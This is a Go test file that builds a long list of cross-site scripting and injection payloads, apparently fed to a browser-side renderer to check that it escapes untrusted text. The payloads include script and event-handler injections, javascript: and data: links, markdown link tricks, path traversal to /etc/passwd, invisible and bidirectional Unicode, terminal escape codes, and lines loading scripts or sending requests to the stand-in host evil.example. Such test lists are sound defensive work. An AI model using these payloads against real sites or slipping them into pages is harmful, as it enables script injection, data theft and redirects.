package browser_test

import (
	"fmt"
	"strings"
)

// payloads are attempts to get out of text: into markup, into scripts, into
// the addresses of links, or into the reader's eye. What they try shows: a
// dialog, a request to evil.example, or window.owned.
func payloads() []string {
	do := []string{"alert(1)", "window.owned=1", "fetch('//evil.example/f')"}
	list := []string{
		// Scripts and what ends their surroundings.
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
		`</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`,
		`</style><script>alert(1)</script>`, `</script><script>alert(1)</script>`,
		`--><script>alert(1)</script>`, `<!--<script>alert(1)//-->`, `]]><script>alert(1)</script>`,
		`</code></pre><script>alert(1)</script>`, `</samp></pre></figure><img src=x onerror=alert(1)>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/x>alert(1)</script >`,
		"<script\n>alert(1)</script\t\n>", `<script type=module>alert(1)</script>`,
		`<svg><script>alert(1)</script></svg>`, `<svg><script href=data:,alert(1) />`,
		`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
		`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`{{constructor.constructor('alert(1)')()}}`, `{{.}}{{printf "%s" "x"}}`, `${alert(1)}`, `<%= alert(1) %>`, `#{alert(1)}`,
		"`-alert(1)-`", `'-alert(1)-'`, `"-alert(1)-"`, `\";alert(1);//`, `\u003cscript\u003ealert(1)\u003c/script\u003e`,
		`\x3cscript\x3ealert(1)\x3c/script\x3e`, `");alert(1);//`, `');alert(1);//`, `"});alert(1);({"`,
		`</script><img src=x onerror=alert(1)>`, "\u2028alert(1)\u2029", `*/alert(1)/*`, `//alert(1)`,

		// Elements that load, move, or take over the page.
		`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<object data="javascript:alert(1)">`, `<embed src="javascript:alert(1)">`, `<embed src=//evil.example/x.swf>`,
		`<base href="//evil.example/">`, `<meta http-equiv="refresh" content="0;url=//evil.example/">`,
		`<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">`,
		`<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=//evil.example/>`,
		`<style>@import "//evil.example/x.css";</style>`, `<style>*{background:url(//evil.example/x)}</style>`,
		`<img src=//evil.example/x.png>`, `<img src=x srcset="//evil.example/1x 1x">`, `<image src=//evil.example/x>`,
		`<audio src=//evil.example/x autoplay>`, `<video poster=//evil.example/x>`, `<track src=//evil.example/x>`,
		`<form action=//evil.example><button>x</button></form>`, `<button formaction=javascript:alert(1)>x</button>`,
		`<input type=image src=//evil.example/x>`, `<isindex action=javascript:alert(1) type=image>`,
		`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x">`,
		`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><set attributeName=onmouseover to=alert(1)>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><foreignObject><iframe src=//evil.example></foreignObject>`,
		`<div style="background:url(//evil.example/x)">x</div>`, `<div style="position:fixed;inset:0;background:red">x</div>`,
		`<p style="width:expression(alert(1))">`, `<plaintext>`, `<xmp>`, `<listing>`, `<frameset onload=alert(1)>`,
		`<body onload=alert(1)>`, `<html onmouseover=alert(1)>`, `<marquee onstart=alert(1)>x</marquee>`,
		`<details open ontoggle=alert(1)>x</details>`, `<dialog open>x</dialog>`, `<portal src=//evil.example>`,
		`</div></div></article></main></body></html>`, `</p></li></ul></td></tr></table>`, `<table><tr><td>`, `<select><option>`,
		`<x onclick=alert(1) tabindex=1 id=x autofocus onfocus=alert(1)>x</x>`, `<a name=x id=x></a>`, `<h2 id="page:text">x</h2>`,

		// Addresses.
		`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
		`javascript&colon;alert(1)`, `&#106;avascript:alert(1)`, `javascript://%0aalert(1)`, `vbscript:msgbox(1)`,
		`data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
		`[x](javascript:alert(1))`, `[x](JAVASCRIPT:alert(1))`, `[x](<javascript:alert(1)>)`, `[x](javascript&colon;alert(1))`,
		`[x](&#x6A;avascript:alert(1))`, `[x](data:text/html,<script>alert(1)</script>)`, `[x](vbscript:msgbox(1))`,
		`[x](//evil.example "onmouseover=alert(1)")`, `[x](https://example.org/" onmouseover="alert(1))`,
		`[x](https://example.org '"><script>alert(1)</script>')`, `![x](//evil.example/x.png)`, `![x](javascript:alert(1))`,
		`![x" onerror="alert(1)](x.png)`, `![](x.png"onerror="alert(1))`, `<javascript:alert(1)>`, `<data:text/html,x>`,
		`<https://example.org/"onmouseover="alert(1)>`, `<a@b.example"onclick="alert(1)>`, `[x]: javascript:alert(1)`,
		`[x][y] [y]: javascript:alert(1)`, `[^1]: <script>alert(1)</script>`, `[a](b){onclick=alert(1)}`,
		`[x](file:///etc/passwd)`, `[x](../../../../etc/passwd)`, `[x](\\evil.example\x)`, `https://evil.example/<script>alert(1)</script>`,

		// Attributes.
		`"><img src=x onerror=alert(1)>`, `'><img src=x onerror=alert(1)>`, `" onmouseover="alert(1)`, `' onmouseover='alert(1)`,
		"` onmouseover=`alert(1)", `" autofocus onfocus=alert(1) x="`, `x" style="position:fixed;inset:0`, `=alert(1)`,
		`go" onclick="alert(1)`, `go"><script>alert(1)</script>`, `go {onclick=alert(1)}`, `go class="x" onclick=alert(1)`,
		`&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;`, `&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;`,
		`&lt;img src=x onerror=alert(1)&gt;`, `&amp;lt;script&amp;gt;alert(1)`, `&#x3C;script&#x3E;alert(1)`, `&#0;&#8238;&#xFFFF;&#x110000;`,
		`&NewLine;&Tab;&ZeroWidthSpace;&lrm;&rlm;`, `&nonsense;`, `&lt`, `%3Cscript%3Ealert(1)%3C/script%3E`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,

		// What is not seen, or seen as something else.
		"a\u202ecod.exe", "\u2066a\u2069\u202a\u202b\u202c\u202d", "\u061c\u200e\u200f", "zero\u200bwidth\u200c\u200d\u2060\ufeff",
		"\u3164\u115f\uffa0", "tag\U000e0041\U000e007f", "\u00ad\u034f\u180e", "vari\ufe0f\ufe0eation", "private\ue000\U000f0000",
		"nul\x00nul", "bell\x07backspace\bdelete\x7f", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
		"\x1b[38;5;1m\x1b[48;2;1;2;3mx", "\x1b[31", "\x1bP1$q\x1b\\", "\x9b31mred", "line\rover", "form\ffeed\vtab", "\u0085\u2028\u2029",
		"\xff\xfe", "\xc0\xafscript", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xe2\x80", "\xc3<script>alert(1)</script>", "\xf0<img src=x onerror=alert(1)>",
		"\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\ufdfa\ufdfd", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u212a\u0130\u0131", "e" + strings.Repeat("\u0301", 200),
		strings.Repeat("\u0e47", 300), strings.Repeat("W", 2000), strings.Repeat("中", 1000), strings.Repeat("<b>", 300), strings.Repeat("&", 500),
		strings.Repeat("[", 300), strings.Repeat("*", 301), strings.Repeat("> ", 100) + "x", strings.Repeat("`", 99), strings.Repeat("(", 300),
	}
	// Events of elements that fire by themselves, three deeds for each.
	for i, event := range []string{
		"img src=x onerror", "svg onload", "body onload", "input autofocus onfocus", "video src=x onerror",
		"audio src=x onerror", "details open ontoggle", "marquee onstart", "iframe onload", "object data=x onerror",
		"style onload", "link rel=stylesheet href=x onerror", "script src=x onerror", "a href=# autofocus onfocus",
		"math onmouseover", "div onpointerenter", "x onanimationstart", "dialog open onclose", "select autofocus onfocus",
		"picture><source srcset=x><img onerror",
	} {
		for _, deed := range do {
			quote := []string{``, `"`, `'`}[i%3]
			list = append(list, fmt.Sprintf("<%s=%s%s%s>", event, quote, deed, quote))
		}
	}
	return list
}
